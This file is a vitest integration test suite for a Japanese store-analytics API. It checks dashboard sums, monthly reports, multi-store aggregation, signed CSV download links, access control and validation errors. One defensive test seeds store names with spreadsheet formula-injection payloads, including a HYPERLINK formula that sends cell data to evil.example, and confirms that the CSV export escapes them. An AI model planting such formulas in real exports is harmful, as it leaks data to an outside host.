import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  ACTION_FIELDS,
  dashboardPeriod,
  daysIn,
  IMPRESSION_FIELDS,
  ja,
  METRIC_FIELDS,
  monthOfDay,
  monthsIn,
  percentChange,
  REACTION_FIELDS,
  REPORT_COLUMNS,
  type MetricField,
} from '@tenpo/domain';
import { buildTestApp, call, login, type TestApp } from './helpers';
import {
  fullDay,
  generatedDays,
  seedMetrics,
  type SeedDay,
  type SeedKeyword,
} from './report-metrics';

/** Today, Tokyo: 2026-03-16 (12:00 JST). The report window is 2024-03-01..2026-03-16. */
const NOW = Date.parse('2026-03-16T03:00:00Z');
const TODAY = '2026-03-16';

let t: TestApp;
const ids: Record<string, number> = {};
const id = (email: string): number => ids[email] as number;
const days: Record<string, SeedDay[]> = {};
let shop = '';
let agency = '';

/** The shop's keywords (ADR 0036's combination rule in action). */
const KEYWORDS: SeedKeyword[] = [
  { month: '2025-12', keyword: 'C', value: 200 },
  { month: '2026-01', keyword: 'C', threshold: 15 },
  { month: '2026-01', keyword: 'A', value: 1 },
  { month: '2026-02', keyword: 'A', value: 100 },
  { month: '2026-02', keyword: 'B', value: 90 },
  { month: '2026-02', keyword: 'C', threshold: 15 },
  { month: '2026-02', keyword: 'D', value: 80 },
  ...(
    [
      ['E', 70],
      ['F', 60],
      ['G', 50],
      ['H', 40],
      ['I', 30],
      ['J', 20],
      ['K', 10],
      ['L', 5],
      ['M', 15],
    ] as const
  ).map(([keyword, value]) => ({ month: '2026-02', keyword, value })),
];

type Row = Record<MetricField, number> & { day: string };
const rowsOf = (email: string, start: string, end: string): Row[] =>
  (days[email] ?? []).map(fullDay).filter((d) => d.day >= start && d.day <= end);
const sum = (rows: Row[], fields: readonly MetricField[]): number =>
  rows.reduce((n, r) => n + fields.reduce((m, f) => m + r[f], 0), 0);
const keywordSum = (months: string[]): number =>
  KEYWORDS.filter((k) => months.includes(k.month)).reduce((n, k) => n + (k.value ?? 0), 0);

/** A report month or total computed by hand from the seeded day rows. */
const expectedFigures = (rows: Row[], keywordMonths: string[]) => {
  const out: Record<string, number> = {};
  for (const c of REPORT_COLUMNS)
    out[c] = c === 'search_keywords' ? keywordSum(keywordMonths) : sum(rows, [c]);
  return out;
};

const post = async (url: string, payload: unknown, token = shop) =>
  call(t.app, { method: 'POST', url: `/api${url}`, token, payload: payload as object });

beforeAll(async () => {
  t = await buildTestApp();
  t.clock.advance(NOW - t.clock.now().getTime());
  const db = t.database.db;
  for (const u of await db.selectFrom('users').select(['id', 'email']).execute())
    ids[u.email] = u.id;
  // The shop: 25 months of days, two missing (zero in the series), and keywords.
  days['shop@tenpo.example'] = generatedDays(
    id('shop@tenpo.example'),
    '2024-03-01',
    '2026-03-15',
  ).filter((d) => d.day !== '2025-12-31' && d.day !== '2026-03-10');
  await seedMetrics(db, id('shop@tenpo.example'), days['shop@tenpo.example'], KEYWORDS);
  // Agency stores for the multi-store report; store04 has no Google location.
  for (const email of [
    'leader@tenpo.example',
    'store02@tenpo.example',
    'store03@tenpo.example',
    'store04@tenpo.example',
  ]) {
    days[email] = generatedDays(id(email), '2024-03-01', '2026-03-15');
    await seedMetrics(db, id(email), days[email]);
  }
  // The hand-worked store (trial): two weeks of simple figures.
  const trial: SeedDay[] = [];
  for (const d of daysIn('2026-03-09', '2026-03-15'))
    trial.push({
      day: d,
      website_clicks: 3,
      business_impressions_desktop_maps: 10,
      call_clicks: 1,
    });
  for (const d of daysIn('2026-03-02', '2026-03-08'))
    trial.push({
      day: d,
      website_clicks: 2,
      call_clicks: d === '2026-03-05' ? 8 : 0,
      business_direction_requests: d === '2026-03-03' ? 4 : 0,
    });
  days['trial@tenpo.example'] = trial;
  await seedMetrics(db, id('trial@tenpo.example'), trial);
  shop = await login(t.app, 'shop@tenpo.example');
  agency = await login(t.app, 'agency@tenpo.example');
});

afterAll(async () => {
  await t.close();
});

type Data<T> = { data: { data: T } };
const dataOf = <T = Record<string, unknown>>(res: { json: () => unknown }): T =>
  (res.json() as Data<T>).data.data;

describe('dashboard', () => {
  it('box-data: a hand-worked percent change', async () => {
    const trial = await login(t.app, 'trial@tenpo.example');
    const res = await post(
      '/dashboard/box-data',
      { user_id: id('trial@tenpo.example'), range: '7' },
      trial,
    );
    expect(res.statusCode).toBe(200);
    // 03-09..03-15 against 03-02..03-08:
    // views 70 vs 0 → no badge; website 21 vs 14 → +50 %; calls 7 vs 8 → −12.5 %;
    // directions 0 vs 4 → −100 %; actions 28 vs 26 → +7.7 %.
    expect(dataOf(res)).toEqual({
      view_total: 70,
      percent_view_total: null,
      search_keywords_total: 0,
      percent_search_keywords_total: null,
      action_total: 28,
      percent_action_total: 7.7,
      action_website: 21,
      percent_action_website: 50,
      action_driving_direction: 0,
      percent_action_driving_direction: -100,
      action_phone: 7,
      percent_action_phone: -12.5,
      // beyond the spec (issue 25 item 7): the trial's reviews were never read
      reviews: expect.objectContaining({ status: 'not_synced', period: null }),
    });
  });

  it.each(['1', '3', '7'] as const)(
    'box-data (%s): the sums over the period’s days, against the previous period',
    async (range) => {
      const res = await post('/dashboard/box-data', {
        user_id: String(id('shop@tenpo.example')),
        ...(range === '1' ? {} : { range }),
      });
      expect(res.statusCode).toBe(200);
      const p = dashboardPeriod(range, TODAY);
      const cur = rowsOf('shop@tenpo.example', p.start, p.end);
      const prev = rowsOf('shop@tenpo.example', p.previous.start, p.previous.end);
      const pair = (fields: readonly MetricField[]) => [
        sum(cur, fields),
        percentChange(sum(cur, fields), sum(prev, fields)),
      ];
      const kCur = range === '3' ? ['2025-12', '2026-01', '2026-02'] : ['2026-02'];
      const kPrev = range === '3' ? ['2025-09', '2025-10', '2025-11'] : ['2026-01'];
      const d = dataOf<Record<string, number | null>>(res);
      expect([d.view_total, d.percent_view_total]).toEqual(pair(IMPRESSION_FIELDS));
      expect([d.action_total, d.percent_action_total]).toEqual(pair(ACTION_FIELDS));
      expect([d.action_website, d.percent_action_website]).toEqual(pair(['website_clicks']));
      expect([d.action_phone, d.percent_action_phone]).toEqual(pair(['call_clicks']));
      expect([d.action_driving_direction, d.percent_action_driving_direction]).toEqual(
        pair(['business_direction_requests']),
      );
      expect(d.search_keywords_total).toBe(keywordSum(kCur));
      expect(d.percent_search_keywords_total).toBe(
        percentChange(keywordSum(kCur), keywordSum(kPrev)),
      );
      expect(d.view_total).toBeGreaterThan(0);
    },
  );

  it('customer-search: the four impressions and their total over the period', async () => {
    const res = await post('/dashboard/customer-search/3', { user_id: id('shop@tenpo.example') });
    expect(res.statusCode).toBe(200);
    const p = dashboardPeriod('3', TODAY);
    const rows = rowsOf('shop@tenpo.example', p.start, p.end);
    const expected: Record<string, number> = { total: sum(rows, IMPRESSION_FIELDS) };
    for (const f of IMPRESSION_FIELDS) expected[f] = sum(rows, [f]);
    expect(dataOf(res)).toEqual(expected);
  });

  it('daily series: every day of the period labelled YYYY/MM/DD, 0 on a day with no row', async () => {
    const p = dashboardPeriod('1', TODAY);
    const rows = rowsOf('shop@tenpo.example', p.start, p.end);
    const byDay = new Map(rows.map((r) => [r.day, r]));
    const seriesOf = (value: (r: Row) => number) =>
      Object.fromEntries(
        daysIn(p.start, p.end).map((d) => {
          const r = byDay.get(d);
          return [d.replace(/-/g, '/'), r ? value(r) : 0];
        }),
      );
    const u = { user_id: id('shop@tenpo.example') };

    const calls = dataOf<{ call_clicks: Record<string, number>; total: number }>(
      await post('/dashboard/customer-call/1', u),
    );
    expect(calls.call_clicks).toEqual(seriesOf((r) => r.call_clicks));
    expect(Object.keys(calls.call_clicks)).toEqual(
      daysIn(p.start, p.end).map((d) => d.replace(/-/g, '/')),
    );
    expect(calls.call_clicks['2026/03/10']).toBe(0);
    expect(calls.total).toBe(sum(rows, ['call_clicks']));

    const views = dataOf<{ views: Record<string, number>; total: number }>(
      await post('/dashboard/customer-view/1', u),
    );
    expect(views.views).toEqual(seriesOf((r) => sum([r], IMPRESSION_FIELDS)));
    expect(views.total).toBe(sum(rows, IMPRESSION_FIELDS));

    const imp = dataOf<Record<string, Record<string, number>>>(
      await post('/dashboard/impressions-graph/1', u),
    );
    expect(Object.keys(imp)).toEqual([...IMPRESSION_FIELDS]);
    for (const f of IMPRESSION_FIELDS) expect(imp[f]).toEqual(seriesOf((r) => r[f]));

    const react = dataOf<Record<string, Record<string, number>>>(
      await post('/dashboard/reactions-graph/1', u),
    );
    expect(Object.keys(react).sort()).toEqual([...REACTION_FIELDS].sort());
    for (const f of REACTION_FIELDS) expect(react[f]).toEqual(seriesOf((r) => r[f]));

    const week = dataOf<{ call_clicks: Record<string, number> }>(
      await post('/dashboard/customer-call/7', u),
    );
    expect(Object.keys(week.call_clicks)).toEqual([
      '2026/03/09',
      '2026/03/10',
      '2026/03/11',
      '2026/03/12',
      '2026/03/13',
      '2026/03/14',
      '2026/03/15',
    ]);
  });

  it('search-keywords: top 10 by value, largest first; a threshold month makes an upper bound', async () => {
    const one = dataOf(
      await post('/dashboard/search-keywords/1', { user_id: id('shop@tenpo.example') }),
    );
    // February only. M (exact 15) before C (fewer than 15); K and L fall off the ten.
    expect(one).toEqual({
      search_keywords_total: 570,
      search_keywords: {
        A: 'value_100',
        B: 'value_90',
        D: 'value_80',
        E: 'value_70',
        F: 'value_60',
        G: 'value_50',
        H: 'value_40',
        I: 'value_30',
        J: 'value_20',
        M: 'value_15',
      },
    });
    expect(Object.keys(one.search_keywords as object)).toEqual([
      'A',
      'B',
      'D',
      'E',
      'F',
      'G',
      'H',
      'I',
      'J',
      'M',
    ]);
    const three = dataOf<{
      search_keywords: Record<string, string>;
      search_keywords_total: number;
    }>(await post('/dashboard/search-keywords/3', { user_id: id('shop@tenpo.example') }));
    // December..February: C = 200 + (<15) + (<15) → threshold_230; A = 1 + 100 exact.
    expect(Object.entries(three.search_keywords).slice(0, 3)).toEqual([
      ['C', 'threshold_230'],
      ['A', 'value_101'],
      ['B', 'value_90'],
    ]);
    expect(Object.keys(three.search_keywords)).toHaveLength(10);
    expect(three.search_keywords_total).toBe(771);
  });

  it('a store with no metrics answers zeros', async () => {
    const res = await post('/dashboard/box-data', { user_id: id('store05@tenpo.example') }, agency);
    expect(res.statusCode).toBe(200);
    expect(dataOf(res)).toMatchObject({ view_total: 0, percent_view_total: null, action_total: 0 });
    const kw = dataOf(
      await post('/dashboard/search-keywords/1', { user_id: id('store05@tenpo.example') }, agency),
    );
    expect(kw).toEqual({ search_keywords_total: 0, search_keywords: {} });
  });
});

describe('single-store report', () => {
  const report = async (start: string, end: string, email = 'shop@tenpo.example') => {
    const res = await post(
      '/report/single-store/adjustment-period',
      { user_id: id(email), start_date: start, end_date: end },
      email === 'shop@tenpo.example' ? shop : agency,
    );
    expect(res.statusCode).toBe(200);
    return dataOf<{
      start_date: string;
      end_date: string;
      months: Record<string, Record<string, number>>;
      total: Record<string, number>;
    }>(res);
  };

  it.each([
    ['partial first month, month ends, the current partial month', '2025-01-15', TODAY],
    ['within one month', '2025-06-10', '2025-06-20'],
    ['partial first and last months in the past', '2025-01-15', '2025-04-10'],
    ['whole months only', '2024-03-01', '2025-02-28'],
    ['the whole window', '2024-03-01', TODAY],
    ['across a year end, ending on a missing day', '2025-11-30', '2025-12-31'],
  ])('totals equal the sums of the daily rows: %s', async (_what, start, end) => {
    const r = await report(start, end);
    expect([r.start_date, r.end_date]).toEqual([start, end]);
    const months = monthsIn(monthOfDay(start), monthOfDay(end));
    expect(Object.keys(r.months)).toEqual(months.map((m) => m.replace('-', '/')));
    for (const m of months) {
      const rows = rowsOf('shop@tenpo.example', start, end).filter((d) => monthOfDay(d.day) === m);
      expect(r.months[m.replace('-', '/')]).toEqual(expectedFigures(rows, [m]));
    }
    expect(r.total).toEqual(expectedFigures(rowsOf('shop@tenpo.example', start, end), months));
    expect(r.total.business_impressions_mobile_search).toBeGreaterThan(0);
  });

  it('accepts YYYY/MM/DD dates', async () => {
    const a = await report('2025/01/15', '2026/03/16');
    const b = await report('2025-01-15', '2026-03-16');
    expect(a).toEqual(b);
  });

  it('fixed period: this year to yesterday against the same months of last year', async () => {
    const res = await post('/report/single-store/fixed-period', {
      user_id: id('shop@tenpo.example'),
      fixed_report: true,
    });
    expect(res.statusCode).toBe(200);
    const year = (y: string, fields: readonly MetricField[], end: string) =>
      Object.fromEntries(
        ['01', '02', '03'].map((m) => [
          m,
          sum(
            rowsOf('shop@tenpo.example', `${y}-${m}-01`, end).filter(
              (d) => d.day.slice(5, 7) === m,
            ),
            fields,
          ),
        ]),
      );
    const graph = (fields: readonly MetricField[]) => ({
      current_year: year('2026', fields, '2026-03-15'),
      latest_year: year('2025', fields, '2025-03-31'),
    });
    expect(dataOf(res)).toEqual({
      search_graph: graph([
        'business_impressions_desktop_search',
        'business_impressions_mobile_search',
      ]),
      impressions_graph: graph([
        'business_impressions_desktop_maps',
        'business_impressions_mobile_maps',
      ]),
      reactions_graph: graph(REACTION_FIELDS),
    });
  });
});

describe('multi-store report', () => {
  const STORES = [
    'leader@tenpo.example',
    'store02@tenpo.example',
    'store03@tenpo.example',
    'store04@tenpo.example',
  ];

  it.each([
    ['whole months and a partial edge', '2025-02-10', TODAY],
    ['days within one month', '2025-03-05', '2025-03-20'],
    ['whole months only', '2025-01-01', '2025-06-30'],
  ])(
    'equals the sum of its single-store reports, keyed by store name, naming the unlinked: %s',
    async (_what, start_date, end_date) => {
      const range = { start_date, end_date };
      const res = await post(
        '/report/multiple-store/adjustment-period',
        { user_id: STORES.map(id), ...range },
        agency,
      );
      expect(res.statusCode).toBe(200);
      const d = dataOf<{
        stores: Record<string, Record<string, number>>;
        not_linked: { id: number; name: string }[];
      }>(res);
      expect(d.not_linked).toEqual([
        { id: id('store04@tenpo.example'), name: 'カフェ・ミナト 品川店' },
      ]);
      const names: Record<string, string> = {
        'leader@tenpo.example': 'カフェ・ミナト 渋谷店',
        'store02@tenpo.example': 'カフェ・ミナト 新宿店',
        'store03@tenpo.example': 'カフェ・ミナト 池袋店',
      };
      expect(Object.keys(d.stores).sort()).toEqual(Object.values(names).sort());
      const all: Record<string, number> = {};
      for (const [email, name] of Object.entries(names)) {
        const single = dataOf<{ total: Record<string, number> }>(
          await post(
            '/report/single-store/adjustment-period',
            { user_id: id(email), ...range },
            agency,
          ),
        );
        expect(d.stores[name]).toEqual(single.total);
        expect(single.total).toEqual(
          expectedFigures(rowsOf(email, range.start_date, range.end_date), []),
        );
        for (const [k, v] of Object.entries(single.total)) all[k] = (all[k] ?? 0) + v;
      }
      const summed: Record<string, number> = {};
      for (const s of Object.values(d.stores))
        for (const [k, v] of Object.entries(s)) summed[k] = (summed[k] ?? 0) + v;
      expect(summed).toEqual(all);
    },
  );

  it('takes user_id as a comma string, and makes a shared name unique', async () => {
    await t.database.db
      .updateTable('users')
      .set({ store_name: 'カフェ・ミナト 新宿店' })
      .where('id', '=', id('store03@tenpo.example'))
      .execute();
    try {
      const res = await post(
        '/report/multiple-store/adjustment-period',
        {
          user_id: `${id('store02@tenpo.example')},${id('store03@tenpo.example')}`,
          start_date: '2026/01/01',
          end_date: '2026/01/31',
        },
        agency,
      );
      expect(res.statusCode).toBe(200);
      const d = dataOf<{ stores: Record<string, Record<string, number>> }>(res);
      expect(Object.keys(d.stores).sort()).toEqual(
        [
          `カフェ・ミナト 新宿店 (#${id('store02@tenpo.example')})`,
          `カフェ・ミナト 新宿店 (#${id('store03@tenpo.example')})`,
        ].sort(),
      );
    } finally {
      await t.database.db
        .updateTable('users')
        .set({ store_name: 'カフェ・ミナト 池袋店' })
        .where('id', '=', id('store03@tenpo.example'))
        .execute();
    }
  });

  it('any foreign store refuses the whole call (404)', async () => {
    const res = await post(
      '/report/multiple-store/adjustment-period',
      {
        user_id: [id('store02@tenpo.example'), id('shop@tenpo.example')],
        start_date: '2026-01-01',
        end_date: '2026-01-31',
      },
      agency,
    );
    expect(res.statusCode).toBe(404);
  });
});

describe('CSV export', () => {
  const csvOf = async (url: string, payload: object, token: string) => {
    const res = await post(url, payload, token);
    expect(res.statusCode).toBe(200);
    const body = res.json() as { status_code: number; data: { csv_url: string } };
    expect(body.status_code).toBe(200);
    expect(body.data.csv_url.startsWith('http://tenpo.test/api/report/csv?')).toBe(true);
    return body.data.csv_url.slice('http://tenpo.test'.length);
  };
  const get = (url: string, token: string | null) => call(t.app, { method: 'GET', url, token });

  it('single store: UTF-8 with BOM, CRLF, a Japanese header, a row a month and a total', async () => {
    const url = await csvOf(
      '/report/single-store/csv',
      { user_id: id('shop@tenpo.example'), start_date: '2026-01-15', end_date: TODAY },
      shop,
    );
    const res = await get(url, shop);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="report_2026-01-15_2026-03-16.csv"; filename*=UTF-8''${encodeURIComponent('レポート_2026-01-15_2026-03-16.csv')}`,
    );
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const lines = text.split('\r\n').slice(0, -1);
    expect(lines[0]).toBe(
      '年月,Googleマップ（パソコン）での表示回数,Googleマップ（モバイル）での表示回数,Google検索（パソコン）での表示回数,Google検索（モバイル）での表示回数,検索キーワードでの表示回数,予約数,メッセージ数,ルート検索数,フードの注文数,通話数,ウェブサイトのクリック数' +
        // the review figures (issue 25 item 7) follow the spec's columns; empty here: the
        // shop's reviews were never read (test/review-metrics.test.ts has them)
        ',口コミ数（新規）,平均評価（累計）,平均評価（期間内の口コミ）,返信率（%）,返信までの時間（中央値・時間）',
    );
    expect(lines.map((l) => l.split(',')[0])).toEqual([
      '年月',
      '2026/01',
      '2026/02',
      '2026/03',
      '合計',
    ]);
    const rows = rowsOf('shop@tenpo.example', '2026-01-15', TODAY);
    const total = expectedFigures(rows, ['2026-01', '2026-02', '2026-03']);
    const noReviews = ['', '', '', '', ''];
    expect(lines[4]).toBe(['合計', ...REPORT_COLUMNS.map((c) => total[c]), ...noReviews].join(','));
    const feb = expectedFigures(
      rows.filter((r) => r.day.startsWith('2026-02')),
      ['2026-02'],
    );
    expect(lines[2]).toBe(
      ['2026/02', ...REPORT_COLUMNS.map((c) => feb[c]), ...noReviews].join(','),
    );
  });

  it('multiple stores: a row a linked store; works for the agency, refused to other sessions', async () => {
    const stores = ['store02@tenpo.example', 'store03@tenpo.example', 'store04@tenpo.example'];
    const url = await csvOf(
      '/report/multiple-store/csv',
      { user_id: stores.map(id).join(','), start_date: '2026-02-01', end_date: '2026-02-28' },
      agency,
    );
    const res = await get(url, agency);
    expect(res.statusCode).toBe(200);
    const lines = res.rawPayload.subarray(3).toString('utf8').split('\r\n');
    expect(lines[0]?.startsWith('店舗,Googleマップ（パソコン）での表示回数,')).toBe(true);
    expect(
      lines
        .slice(1, 3)
        .map((l) => l.split(',')[0])
        .sort(),
    ).toEqual(['カフェ・ミナト 新宿店', 'カフェ・ミナト 池袋店'].sort());
    expect(lines[3]?.startsWith('合計,')).toBe(true);
    // Another agency's session, a shop, and no session at all.
    expect((await get(url, shop)).statusCode).toBe(404);
    expect((await get(url, null)).statusCode).toBe(401);
    // The leader reads its group's stores (leader, 02, 03, 04), not the Kansai group's store05.
    const leader = await login(t.app, 'leader@tenpo.example');
    expect((await get(url, leader)).statusCode).toBe(200);
    const wider = await csvOf(
      '/report/multiple-store/csv',
      {
        user_id: [id('store02@tenpo.example'), id('store05@tenpo.example')],
        start_date: '2026-02-01',
        end_date: '2026-02-28',
      },
      agency,
    );
    expect((await get(wider, agency)).statusCode).toBe(200);
    expect((await get(wider, leader)).statusCode).toBe(404);
    const manager = await login(t.app, 'manager@tenpo.example');
    expect((await get(url, manager)).statusCode).toBe(200);
  });

  it('a link is refused once altered or after ten minutes', async () => {
    const url = await csvOf(
      '/report/single-store/csv',
      { user_id: id('shop@tenpo.example'), start_date: '2026-01-01', end_date: '2026-01-31' },
      shop,
    );
    const altered = url.replace('end_date=2026-01-31', 'end_date=2026-02-28');
    const refused = await get(altered, shop);
    expect(refused.statusCode).toBe(403);
    expect(refused.json()).toMatchObject({ message: ja.reportCsvLinkExpired });
    const otherStore = url.replace(
      `user_id=${id('shop@tenpo.example')}`,
      `user_id=${id('trial@tenpo.example')}`,
    );
    expect((await get(otherStore, shop)).statusCode).toBe(403);
    expect((await get(url, shop)).statusCode).toBe(200);
    t.clock.advance(9 * 60_000);
    expect((await get(url, shop)).statusCode).toBe(200);
    t.clock.advance(61_000);
    const expired = await get(url, shop);
    t.clock.advance(NOW - t.clock.now().getTime());
    expect(expired.statusCode).toBe(403);
  });

  it('a store name a spreadsheet would run as a formula comes out as text (issue 22 item 2)', async () => {
    const db = t.database.db;
    const stores = ['leader@tenpo.example', 'store02@tenpo.example', 'store03@tenpo.example'];
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)', '+1+1'];
    const before = await db
      .selectFrom('users')
      .select(['id', 'store_name'])
      .where('id', 'in', stores.map(id))
      .execute();
    try {
      for (const [i, email] of stores.entries())
        await db
          .updateTable('users')
          .set({ store_name: names[i] })
          .where('id', '=', id(email))
          .execute();
      const url = await csvOf(
        '/report/multiple-store/csv',
        { user_id: stores.map(id).join(','), start_date: '2026-02-01', end_date: '2026-02-28' },
        agency,
      );
      const res = await get(url, agency);
      expect(res.statusCode).toBe(200);
      const firstCells = res.rawPayload
        .subarray(3)
        .toString('utf8')
        .split('\r\n')
        .slice(1, 4)
        .map((l) => (l.startsWith('"') ? l.slice(0, l.indexOf('",') + 1) : l.split(',')[0]));
      expect(firstCells.sort()).toEqual(
        [`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`, "'@SUM(1+1)", "'+1+1"].sort(),
      );
    } finally {
      for (const b of before)
        await db
          .updateTable('users')
          .set({ store_name: b.store_name })
          .where('id', '=', b.id)
          .execute();
    }
  });
});

describe('bad input answers 422 in Japanese, never 5xx', () => {
  const u = () => ({ user_id: id('shop@tenpo.example') });
  const range = (start: unknown, end: unknown) => ({ ...u(), start_date: start, end_date: end });
  const window = ja.reportOutOfWindow('2024/03/01', '2026/03/16');
  const cases: [string, string, () => object, string][] = [
    [
      'box-data range',
      '/dashboard/box-data',
      () => ({ ...u(), range: '2' }),
      ja.reportRangeInvalid,
    ],
    ...[
      'customer-search',
      'customer-call',
      'customer-view',
      'reactions-graph',
      'impressions-graph',
    ].map((p): [string, string, () => object, string] => [
      `${p} range`,
      `/dashboard/${p}/12`,
      u,
      ja.reportRangeInvalid,
    ]),
    ['keywords range 7', '/dashboard/search-keywords/7', u, ja.reportKeywordRangeInvalid],
    ['missing user', '/dashboard/customer-call/1', () => ({}), ja.reportStoreInvalid],
    ['missing dates', '/report/single-store/adjustment-period', u, ja.reportPeriodsMissing],
    [
      'missing end date',
      '/report/single-store/csv',
      () => range('2026-01-01', ''),
      ja.reportPeriodsMissing,
    ],
    [
      'not a date',
      '/report/single-store/adjustment-period',
      () => range('2026-02-30', '2026-03-01'),
      ja.reportDateFormat,
    ],
    [
      'end before start',
      '/report/single-store/adjustment-period',
      () => range('2026-03-01', '2026-02-01'),
      ja.reportEndBeforeStart,
    ],
    [
      'start before the window',
      '/report/single-store/adjustment-period',
      () => range('2024-02-29', '2026-03-01'),
      window,
    ],
    [
      'end after today',
      '/report/multiple-store/adjustment-period',
      () => range('2026-03-01', '2026-03-17'),
      window,
    ],
    [
      'empty store list',
      '/report/multiple-store/adjustment-period',
      () => ({ user_id: [], start_date: '2026-01-01', end_date: '2026-01-31' }),
      ja.reportStoresRequired,
    ],
    [
      'empty store string',
      '/report/multiple-store/csv',
      () => ({ user_id: '', start_date: '2026-01-01', end_date: '2026-01-31' }),
      ja.reportStoresRequired,
    ],
    [
      'a store id that is no number',
      '/report/multiple-store/csv',
      () => ({ user_id: '1,x', start_date: '2026-01-01', end_date: '2026-01-31' }),
      ja.reportStoreInvalid,
    ],
  ];
  it.each(cases)('%s', async (_what, url, payload, message) => {
    const res = await post(url, payload());
    expect(res.statusCode).toBe(422);
    expect((res.json() as { message: string }).message).toBe(message);
  });

  it('answers Japanese for a missing body and a malformed CSV link too', async () => {
    const none = await call(t.app, { method: 'POST', url: '/api/dashboard/box-data', token: shop });
    expect([none.statusCode, (none.json() as { message: string }).message]).toEqual([
      422,
      ja.reportStoreInvalid,
    ]);
    const link = await call(t.app, {
      method: 'GET',
      url: '/api/report/csv?kind=single',
      token: shop,
    });
    expect([link.statusCode, (link.json() as { message: string }).message]).toEqual([
      422,
      ja.reportCsvLinkExpired,
    ]);
    const fixed = await post('/report/single-store/fixed-period', {
      user_id: id('shop@tenpo.example'),
      fixed_report: 'yes',
    });
    expect(fixed.statusCode).toBe(200);
  });

  it('the fields and the metric names agree with the contract', () => {
    expect([...METRIC_FIELDS].sort()).toEqual(
      REPORT_COLUMNS.filter((c) => c !== 'search_keywords').sort(),
    );
  });
});
